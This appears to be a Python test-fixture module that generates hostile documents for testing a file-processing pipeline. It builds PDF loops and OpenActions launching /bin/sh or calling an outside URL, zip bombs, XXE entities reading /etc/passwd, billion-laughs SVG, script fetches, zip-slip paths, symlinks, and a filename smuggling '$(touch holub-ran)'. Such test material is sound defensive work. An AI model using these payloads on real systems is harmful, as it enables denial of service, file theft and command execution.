"""Documents made to harm: loops, actions, zip bombs, links to elsewhere, names."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from holub_testing.media_files.hostile_pictures import bomb
from holub_testing.media_files.jpegs import saved
from holub_testing.media_files.offices import RELATION, WORDS, archive, docx, drawing, odf, relations
from holub_testing.media_files.outside import Outside
from holub_testing.media_files.pdfs import pdf, stream


def loops() -> Iterator[tuple[str, bytes]]:
    yield "kids.pdf", pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[2 0 R 2 0 R]/Count 2000000000")
    form = stream(b"/F Do /F Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 10 0 R>>>>")
    yield "form.pdf", pdf(page="/Resources<</XObject<</F 10 0 R>>>>", objects=(form,), content=b"/F Do")
    yield "deep.pdf", pdf(catalog="/A " + "[" * 200_000 + "]" * 200_000)
    yield "page.pdf", pdf(box="-1e9 -1e9 1e9 1e9", content=b"0 0 1e9 1e9 re f")
    script = b"{" + b"1 1 1000000 {pop sin cos} for " * 1000 + b"}"
    function = stream(script, "/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]")
    shading = b"<</ShadingType 1/ColorSpace/DeviceRGB/Domain[0 1 0 1]/Function 11 0 R>>"
    yield "function.pdf", pdf(page="/Resources<</Shading<</S 10 0 R>>>>", objects=(shading, function), content=b"/S sh")


def actions(outside: Outside) -> Iterator[tuple[str, bytes]]:
    script = f"app.launchURL('{outside.url}');while(1){{}}"
    yield "javascript.pdf", pdf(catalog=f"/OpenAction<</S/JavaScript/JS({script})>>")
    yield "launch.pdf", pdf(catalog="/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>")
    yield "submit.pdf", pdf(catalog=f"/OpenAction<</S/SubmitForm/F<</FS/URL/F({outside.url})>>>>")
    shown = b"90 0 0 60 0 0 cm /Im Do"
    elsewhere = (
        f"<</Subtype/Image/Width 8/Height 8/BitsPerComponent 8/ColorSpace/DeviceRGB/Length 0/F({outside.picture})>>"
    )
    image = elsewhere.encode() + b"stream\n\nendstream"
    yield "stream-elsewhere.pdf", pdf(page="/Resources<</XObject<</Im 10 0 R>>>>", objects=(image,), content=shown)
    ref = f"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F({outside.picture})/Page 0>>/Length 0>>".encode()
    form = ref + b"stream\n\nendstream"
    yield "reference.pdf", pdf(page="/Resources<</XObject<</Im 10 0 R>>>>", objects=(form,), content=shown)


def put(name: str, compressed: bytes, size: int, into: bytes) -> bytes:
    """A zip with one more entry, whose data is a zlib stream as it stands: nothing of it is ever unpacked here."""
    with zipfile.ZipFile(io.BytesIO(into)) as old:
        entries = [(each, old.read(each)) for each in old.namelist() if each != name]
    out, directory, count = bytearray(), bytearray(), 0
    raw = compressed[2:-4]
    rows = [(each, zlib.compressobj(9, zlib.DEFLATED, -15), data) for each, data in entries]
    packed = [
        (each, data if each == "mimetype" else how.compress(data) + how.flush(), len(data), zlib.crc32(data))
        for each, how, data in rows
    ]
    for each, body, length, crc in [*packed, (name, raw, size, 0)]:
        fields = struct.pack(
            "<HHHHHIIIHH", 20, 0, 0 if each == "mimetype" else 8, 0, 0, crc, len(body), length, len(each), 0
        )
        directory += b"PK\x01\x02\x14\0" + fields + struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + each.encode()
        out += b"PK\x03\x04" + fields + each.encode() + body
        count += 1
    end = b"PK\x05\x06\0\0\0\0" + struct.pack("<HHIIH", count, count, len(directory), len(out), 0)
    return bytes(out + directory) + end


def zips() -> Iterator[tuple[str, bytes]]:
    yield "words.docx", put("word/document.xml", bomb(2000, b" "), 2000 << 20, docx())
    yield "content.odt", put("content.xml", bomb(2000, b" "), 2000 << 20, odf("text", ""))
    yield "entries.docx", docx({f"word/{number}.xml": "" for number in range(20_000)})
    cells = (
        '<table:table><table:table-row table:number-rows-repeated="1048576"><table:table-cell '
        'table:number-columns-repeated="1024" office:value-type="float" office:value="1"/>'
        "</table:table-row></table:table>"
    )
    yield "cells.ods", odf("spreadsheet", cells)
    inner = archive({"a": b"\0" * 1_000_000})
    for _ in range(8):
        inner = archive({str(number): inner for number in range(4)})
    yield "nested.docx", docx({"word/media/a.zip": inner})


def reaching(outside: Outside) -> Iterator[tuple[str, bytes]]:
    image = f"{RELATION}/image"
    for name, target in (("file", f"file://{outside.picture}"), ("http", outside.url)):
        rels = relations((image, target), external=True)
        yield f"linked-{name}.docx", docx({"word/_rels/document.xml.rels": rels}, drawing("r:link"))
    frame = (
        '<text:p><draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" svg:width="5cm" svg:height="4cm" '
        f'text:anchor-type="as-char"><draw:image xlink:href="file://{outside.picture}" xlink:type="simple"/>'
        "</draw:frame></text:p>"
    )
    yield "linked.odt", odf("text", frame)
    field = rf'{{\field{{\*\fldinst INCLUDEPICTURE "{outside.picture}" \\d}}{{\fldrslt x}}}}'
    text = r'{\field{\*\fldinst INCLUDETEXT "/etc/passwd"}{\fldrslt y}}'
    yield "field.rtf", (r"{\rtf1 a " + field + text + "}").encode()
    outer = f'<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "{outside.url}">%y;'
    entity = f'<?xml version="1.0"?><!DOCTYPE d [{outer}]>'
    body = f"{entity}<w:document {WORDS}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    yield "entity.docx", docx({"word/document.xml": body})


def drawings(outside: Outside) -> Iterator[tuple[str, bytes]]:
    head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="60">'
    image = f'{head}<image width="90" height="60" xlink:href="file://{outside.picture}"/></svg>'
    yield "image.svg", image.encode()
    yield (
        "entity.svg",
        f'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>{head}<text y="20">&x;</text></svg>'.encode(),
    )
    laughs = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(12))
    yield "laughs.svg", f'<!DOCTYPE s [<!ENTITY a0 "ha">{laughs}]>{head}<text>&a12;</text></svg>'.encode()
    yield "script.svg", f"{head}<script>fetch('{outside.url}')</script></svg>".encode()
    types = docx()
    rels = relations((f"{RELATION}/image", "media/a.svg"))
    with_svg = {"word/media/a.svg": image, "word/_rels/document.xml.rels": rels}
    with zipfile.ZipFile(io.BytesIO(types)) as old:
        listed = old.read("[Content_Types].xml").decode()
    svg = '<Default Extension="svg" ContentType="image/svg+xml"/><Override'
    yield "drawing.docx", docx(with_svg | {"[Content_Types].xml": listed.replace("<Override", svg, 1)}, drawing())


def names(outside: Outside) -> Iterator[tuple[str, bytes]]:
    link = zipfile.ZipInfo("word/media/a.png")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    image = f"{RELATION}/image"
    rels = relations((image, "media/a.png"))
    out = io.BytesIO(docx({"word/_rels/document.xml.rels": rels}, drawing()))
    with zipfile.ZipFile(out, "a") as made:
        made.writestr(link, str(outside.picture))
    yield "link.docx", out.getvalue()
    climbing = relations((image, "../../../../../../" + str(outside.picture)))
    slip = {f"../../../../../../tmp/holub-slipped-{n}": "x" for n in range(3)}
    yield "climbing.docx", docx(slip | {"word/_rels/document.xml.rels": climbing}, drawing())
    rels = relations((image, "media/$(touch%20holub-ran).jpg"))
    named = {"word/media/$(touch holub-ran).jpg": saved("JPEG"), "word/_rels/document.xml.rels": rels}
    yield "command.docx", docx(named, drawing())
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        entry = tarfile.TarInfo("a.jpg")
        entry.type, entry.linkname = tarfile.SYMTYPE, str(outside.picture)
        tar.addfile(entry)
    yield "link.tar", packed.getvalue()
    yield "path.jpg", b"\xff\xd8\xff\xe0" + str(outside.picture).encode()
